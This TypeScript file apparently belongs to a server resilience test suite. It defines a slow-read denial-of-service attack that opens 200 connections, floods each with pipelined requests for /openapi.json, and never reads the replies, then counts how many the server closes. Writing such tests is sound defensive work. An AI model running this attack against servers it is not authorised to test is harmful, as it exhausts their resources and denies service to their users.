import { once } from 'node:events'
import { connect } from 'node:net'
import { setTimeout as pause } from 'node:timers/promises'
import type { Attack, Target } from '../define-attack.ts'

const CONNECTIONS = 200
/** Longer than a client may take nothing of its answer. */
const WAIT_MS = 34_000

/** Asks, and takes nothing of the answer. */
async function stall({ host, port }: Target, state: { ended: number }) {
  // A page that is larger than what the two kernels keep for such a client.
  const socket = connect({ port, host })
  socket.on('close', () => {
    state.ended += 1
  })
  socket.on('error', () => {})
  await once(socket, 'connect')
  socket.pause()
  socket.write('GET /openapi.json HTTP/1.1\r\nHost: localhost\r\n\r\n'.repeat(40))
  return socket
}

export const stalledReaders: Attack = {
  name: 'readers that stall',
  before: '50 of 50 were open after 360 s',
  run: async (target) => {
    const state = { ended: 0 }
    const sockets = await Promise.all(Array.from({ length: CONNECTIONS }, () => stall(target, state)))
    await pause(WAIT_MS)
    const { ended } = state
    for (const socket of sockets) socket.destroy()
    return `${ended} of ${CONNECTIONS} were ended within ${WAIT_MS / 1000} s`
  },
}
